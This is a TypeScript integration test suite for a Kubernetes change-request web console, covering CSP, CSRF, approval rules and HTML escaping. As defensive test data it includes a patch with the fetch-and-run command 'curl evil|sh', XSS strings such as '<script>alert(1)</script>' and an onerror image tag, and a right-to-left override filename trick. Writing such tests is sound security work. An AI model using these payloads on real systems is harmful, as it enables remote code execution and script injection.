import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { CONTENT_SECURITY_POLICY } from '../../../../src/adapters/web/ingress/security-headers.ts';
import { MAX_FULL_CHANGE_CHARS } from '../../../../src/core/changes/refuse-unshowable-change.ts';
import { adversarialChanges, adversarialPatch } from '../../core/changes/adversarial-patch.ts';
import { ConsoleClient, startConsoleFixture, type ConsoleFixture } from './console-fixture.ts';
import {
  requestFormLayout,
  requestFormSections,
} from '../../../../src/core/conversation/request-form-layout.ts';

const NO_CHOICES = { clusters: [], namespaces: [], grantableRoles: [] };

const SCALE = 'scale deployment/api --replicas 5 -n prod-payments --reason "INC-4312 load"';

describe('console over HTTP (in-memory workflow)', () => {
  let fx: ConsoleFixture;
  before(async () => {
    fx = await startConsoleFixture();
  });
  after(() => fx.stop());

  async function fileAs(client: ConsoleClient, text: string): Promise<string> {
    const token = await client.csrf('/submit');
    const response = await client.post('/submit', { _csrf: token, text });
    assert.equal(response.status, 303, await response.text());
    const id = /^\/requests\/(cs-[a-z0-9]+)$/.exec(response.headers.get('location') ?? '')?.[1];
    assert.ok(id, `redirect to the request page, got ${response.headers.get('location')}`);
    return id;
  }

  test('every answer carries the strict CSP and the session cookie is HttpOnly and SameSite=Strict', async () => {
    const response = await new ConsoleClient(fx.url).get('/login');
    assert.equal(response.headers.get('content-security-policy'), CONTENT_SECURITY_POLICY);
    assert.match(CONTENT_SECURITY_POLICY, /script-src 'self'(;|$)/);
    assert.equal(response.headers.get('x-frame-options'), 'DENY');
    const cookie = response.headers.getSetCookie().find((c) => c.startsWith('countersign='));
    assert.ok(cookie);
    assert.match(cookie, /HttpOnly/);
    assert.match(cookie, /SameSite=Strict/);
    assert.doesNotMatch(cookie, /Secure/, 'plain http on loopback cannot use Secure');
    assert.match(await response.text(), /Dev users mode/);
  });

  test('pages need sign-in; the sign-in form works only with its CSRF token', async () => {
    const client = new ConsoleClient(fx.url);
    const page = await client.get('/approvals');
    assert.equal(page.status, 303);
    assert.equal(page.headers.get('location'), '/login?next=%2Fapprovals');
    await client.csrf('/login');
    const forged = await client.post('/login', { _csrf: 'not-the-token', username: 'bob@example.com' });
    assert.equal(forged.status, 403);
    await client.signIn('bob@example.com');
    assert.equal((await client.get('/approvals')).status, 200);
  });

  test('a developer files a request by typing it; the page shows the card and the timeline', async () => {
    const alice = new ConsoleClient(fx.url);
    await alice.signIn('alice@example.com');
    const id = await fileAs(alice, `/k8s-request ${SCALE}`);
    const page = await (await alice.get(`/requests/${id}`)).text();
    assert.match(page, /Waiting for approval/);
    assert.match(page, /0 of 2 approvals/);
    assert.match(page, /Submitted by alice@example\.com/);
    assert.ok(fx.feed.published.some((c) => c.kind === 'changed' && c.requestId === id));
  });

  test('a bad command comes back with the parser’s message and the text kept, nothing filed', async () => {
    const alice = new ConsoleClient(fx.url);
    await alice.signIn('alice@example.com');
    const token = await alice.csrf('/submit');
    const response = await alice.post('/submit', {
      _csrf: token,
      text: 'scale deployment/api -n prod-payments --reason x',
    });
    assert.equal(response.status, 422);
    const page = await response.text();
    assert.match(page, /replicas/);
    assert.match(page, /value="scale deployment\/api -n prod-payments --reason x"/);
  });

  test('the request form offers what every surface offers: clusters, the default cluster’s namespaces, roles', async () => {
    const alice = new ConsoleClient(fx.url);
    await alice.signIn('alice@example.com');
    const page = await (await alice.get('/submit')).text();
    assert.match(
      page,
      /<datalist id="namespaces">\s*<option value="prod-payments"><\/option><option value="staging-web">/,
    );
    assert.match(page, /list="namespaces"/);
    assert.match(page, /<select name="role">\s*<option value="role\/view"/);
    const form = page.slice(page.indexOf('class="request-form"'));
    assert.deepEqual(
      [...new Set([...form.matchAll(/ name="([a-z_]+)"/g)].map((m) => m[1]))],
      [
        '_csrf',
        'mode',
        ...requestFormSections(requestFormLayout(NO_CHOICES)).flatMap((s) => s.fields.map((f) => f.id)),
      ],
      'every field of the core’s layout, in its sections’ order',
    );
  });

  test('whoami and explain answer in place with the neutral lines Slack and Teams show', async () => {
    const alice = new ConsoleClient(fx.url);
    await alice.signIn('alice@example.com');
    const ask = async (text: string): Promise<string> =>
      (await alice.post('/submit', { _csrf: await alice.csrf('/submit'), text })).text();
    assert.match(
      await ask('whoami'),
      /In Kubernetes you are <code>alice@example\.com<\/code> with <code>developers<\/code>\./,
    );
    const explained = await ask('explain scale deployment/api --replicas 5 -n prod-payments --reason x');
    assert.match(explained, /: nothing filed, this is what policy would do\./);
    assert.match(explained, /Needs 2 approval\(s\) from sre-leads\./);
  });

  test('a patch request page shows the full change: every path, whole values, the exact patch, escaped (issue 15 item 1)', async () => {
    fx.workflow.cluster.patchChanges = adversarialChanges;
    const alice = new ConsoleClient(fx.url);
    await alice.signIn('alice@example.com');
    const id = await fileAs(
      alice,
      `patch deployment/api -n prod-payments --patch '${JSON.stringify(adversarialPatch)}' --reason "tidy labels"`,
    );
    const page = await (await alice.get(`/requests/${id}`)).text();
    assert.match(page, /17 changed paths; 10 shown, values shortened/);
    assert.match(page, new RegExp(`href="/requests/${id}#full-change">Show full change`));
    const full = page.slice(page.indexOf('id="full-change"'));
    for (const { path } of adversarialChanges) assert.ok(full.includes(`<code>${path}</code>`), path);
    assert.ok(full.includes('&quot;curl evil|sh&quot;'), 'the container command, whole');
    assert.ok(!page.includes('<script>alert') && full.includes('&lt;/pre&gt;&lt;script&gt;'));
    assert.ok(full.includes('\\u202egnp.exe and then some more words to pass sixty'));
  });

  test('a patch too large to show whole is refused at filing with the limit, nothing filed', async () => {
    const value = 'z'.repeat(MAX_FULL_CHANGE_CHARS);
    fx.workflow.cluster.patchChanges = [{ path: 'metadata.annotations.blob', after: JSON.stringify(value) }];
    const before = fx.workflow.store.records.size;
    const alice = new ConsoleClient(fx.url);
    await alice.signIn('alice@example.com');
    const token = await alice.csrf('/submit');
    const response = await alice.post('/submit', {
      _csrf: token,
      text: `patch deployment/api -n prod-payments --patch '{"metadata":{"annotations":{"blob":"${value}"}}}' --reason "big"`,
    });
    assert.equal(response.status, 422);
    assert.match(await response.text(), new RegExp(`the limit is ${MAX_FULL_CHANGE_CHARS}`));
    assert.equal(fx.workflow.store.records.size, before);
  });

  test('the requester cannot approve their own request; an approver can, and the second approval completes it', async () => {
    const alice = new ConsoleClient(fx.url);
    await alice.signIn('alice@example.com');
    const id = await fileAs(alice, SCALE);
    const token = await alice.csrf('/mine');
    const self = await alice.post(
      `/requests/${id}/approve`,
      { _csrf: token },
      { accept: 'application/json' },
    );
    assert.equal(self.status, 403);
    const refusal = (await self.json()) as { ok: boolean; message: string };
    assert.equal(refusal.ok, false);
    assert.match(refusal.message, /cannot approve it/);

    for (const [name, expected] of [
      ['bob@example.com', /1 of 2 approvals/],
      ['carol@example.com', /2 of 2 approvals/],
    ] as const) {
      const approver = new ConsoleClient(fx.url);
      await approver.signIn(name);
      const approvals = await (await approver.get('/approvals')).text();
      assert.match(approvals, new RegExp(`data-request-id="${id}"`));
      const answer = await approver.post(
        `/requests/${id}/approve`,
        { _csrf: await approver.csrf('/approvals') },
        { accept: 'application/json' },
      );
      assert.equal(answer.status, 200);
      assert.match(((await answer.json()) as { message: string }).message, expected);
    }
    const record = await fx.workflow.deps.store.get(id);
    assert.equal(record?.state, 'approved');
  });

  test('a cross-site POST is refused before anything is read: foreign Origin, no token, or no Origin at all', async () => {
    const alice = new ConsoleClient(fx.url);
    await alice.signIn('alice@example.com');
    const id = await fileAs(alice, SCALE);
    const bob = new ConsoleClient(fx.url);
    await bob.signIn('bob@example.com');
    const token = await bob.csrf('/approvals');

    bob.origin = 'http://evil.example';
    assert.equal((await bob.post(`/requests/${id}/approve`, { _csrf: token })).status, 403);
    bob.origin = fx.url;
    assert.equal((await bob.post(`/requests/${id}/approve`, {})).status, 403, 'no token');
    const noOrigin = await fetch(`${fx.url}/requests/${id}/approve`, {
      method: 'POST',
      headers: {
        cookie: [...bob.cookies].map(([k, v]) => `${k}=${v}`).join('; '),
        'content-type': 'application/x-www-form-urlencoded',
      },
      body: `_csrf=${token}`,
    });
    assert.equal(noOrigin.status, 403, 'no Origin and no Sec-Fetch-Site');
    const plain = await bob.post(
      `/requests/${id}/approve`,
      { _csrf: token },
      { 'content-type': 'text/plain' },
    );
    assert.equal(plain.status, 415);
    const record = await fx.workflow.deps.store.get(id);
    assert.equal(record?.approvals.length, 0, 'no refused POST approved anything');
  });

  test('deny needs a reason; hostile text is escaped everywhere it is shown', async () => {
    const alice = new ConsoleClient(fx.url);
    await alice.signIn('alice@example.com');
    const hostile = '<script>alert(1)</script> "><img src=x onerror=alert(2)>';
    const id = await fileAs(alice, `${SCALE.replace('"INC-4312 load"', JSON.stringify(hostile))}`);
    const bob = new ConsoleClient(fx.url);
    await bob.signIn('bob@example.com');
    const token = await bob.csrf('/approvals');
    const empty = await bob.post(
      `/requests/${id}/deny`,
      { _csrf: token, reason: ' ' },
      { accept: 'application/json' },
    );
    assert.equal(empty.status, 422);
    const denied = await bob.post(`/requests/${id}/deny`, { _csrf: token, reason: '</li><b>nope</b>' });
    assert.equal(denied.status, 303, 'without script: flash and redirect');
    const page = await (await alice.get(`/requests/${id}`)).text();
    assert.doesNotMatch(page, /<script>alert/);
    assert.doesNotMatch(page, /<img src=x/);
    assert.doesNotMatch(page, /<b>nope<\/b>/);
    assert.match(page, /&lt;script&gt;alert\(1\)&lt;\/script&gt;/);
    assert.match(page, /Denied by bob@example\.com: &lt;\/li&gt;&lt;b&gt;nope&lt;\/b&gt;/);
  });

  test('the form builds the same command as typing it', async () => {
    const alice = new ConsoleClient(fx.url);
    await alice.signIn('alice@example.com');
    const token = await alice.csrf('/submit');
    const response = await alice.post('/submit', {
      _csrf: token,
      mode: 'form',
      kind: 'action',
      verb: 'scale',
      target: 'deployment/api',
      namespace: 'prod-payments',
      replicas: '4',
      reason: 'form path',
    });
    assert.equal(response.status, 303);
    const id = /cs-[a-z0-9]+/.exec(response.headers.get('location') ?? '')?.[0] ?? '';
    const record = await fx.workflow.deps.store.get(id);
    assert.equal(record?.text, 'scale deployment/api -n prod-payments --replicas 4 --reason "form path"');
  });

  test('the form is read by the core’s form grammar: only a request, never another command', async () => {
    const alice = new ConsoleClient(fx.url);
    await alice.signIn('alice@example.com');
    const before = (await fx.workflow.deps.store.listOpenByRequester('alice@example.com')).length;
    for (const fields of [{}, { kind: 'action', verb: 'whoami' }] as Record<string, string>[]) {
      const response = await alice.post('/submit', {
        _csrf: await alice.csrf('/submit'),
        mode: 'form',
        ...fields,
      });
      assert.equal(response.status, 422);
      assert.match(await response.text(), /Fill in what you need: an action and its target, or a role\./);
    }
    assert.equal(
      (await fx.workflow.deps.store.listOpenByRequester('alice@example.com')).length,
      before,
      'nothing filed',
    );
  });

  test('the audit page verifies the chain', async () => {
    const alice = new ConsoleClient(fx.url);
    await alice.signIn('alice@example.com');
    const page = await (await alice.get('/audit')).text();
    assert.match(page, /data-verify="ok"/);
    assert.match(page, /Chain verified: \d+ records/);
  });

  test('live stream: signed-in pages get request changes as Server-Sent Events; strangers get 401', async () => {
    assert.equal((await new ConsoleClient(fx.url).get('/events')).status, 401);
    const bob = new ConsoleClient(fx.url);
    await bob.signIn('bob@example.com');
    const controller = new AbortController();
    const response = await fetch(`${fx.url}/events`, {
      headers: { cookie: [...bob.cookies].map(([k, v]) => `${k}=${v}`).join('; ') },
      signal: controller.signal,
    });
    assert.equal(response.headers.get('content-type'), 'text/event-stream; charset=utf-8');
    const reader = (response.body as ReadableStream<Uint8Array>).getReader();
    await fx.feed.publish({ kind: 'changed', requestId: 'cs-aaaaaaaaaa', version: 7 });
    let text = '';
    while (!text.includes('cs-aaaaaaaaaa')) {
      const chunk = await reader.read();
      if (chunk.done) break;
      text += new TextDecoder().decode(chunk.value);
    }
    controller.abort();
    assert.match(text, /event: changed\ndata: \{"kind":"changed","requestId":"cs-aaaaaaaaaa","version":7\}/);
  });
});
